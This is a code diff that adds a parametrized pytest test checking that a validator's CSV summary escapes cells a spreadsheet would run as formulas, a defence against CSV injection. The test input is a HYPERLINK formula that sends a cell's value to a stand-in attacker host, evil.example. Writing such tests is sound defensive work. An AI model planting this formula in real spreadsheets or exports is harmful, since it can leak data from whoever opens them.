@@ -340,3 +340,25 @@ def test_a_file_it_may_not_read_is_a_listed_case(tmp_path: Path, monkeypatch) ->
     assert rows["locked"]["status"] == "unreadable"
     assert "permission" in rows["locked"]["error"].lower()
     assert result.exit_code == 4
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_summary_csv_escapes_what_a_spreadsheet_would_run(lead: str) -> None:
+    """Issue 13, item 12 (OWASP CSV injection): a text cell that begins with = + - @, tab
+    or CR is written with a leading single quote; numbers and other text as they are."""
+    from validator.batch.summary import render_csv, row
+
+    formula = f'{lead}HYPERLINK("http://evil.example/?"&A1,"open")'
+    result = {
+        "case_id": formula,
+        "status": "unreadable",
+        "videos": [],
+        "unreadable": [{"video": f"{lead}cmd.mp4", "message": "not a video"}],
+        "prediction": {"outcome": "uncertain", "score": -2},
+    }
+    (parsed,) = csv.DictReader(io.StringIO(render_csv([row(result, "slug")])))
+    assert parsed["case_id"] == "'" + formula
+    assert parsed["unreadable"] == f"'{lead}cmd.mp4"
+    assert parsed["error"] == f"'{lead}cmd.mp4: not a video"
+    assert parsed["predicted_score"] == "-2"  # a number, not a formula
+    assert parsed["status"] == "unreadable" and parsed["report"] == "cases/slug/report.json"
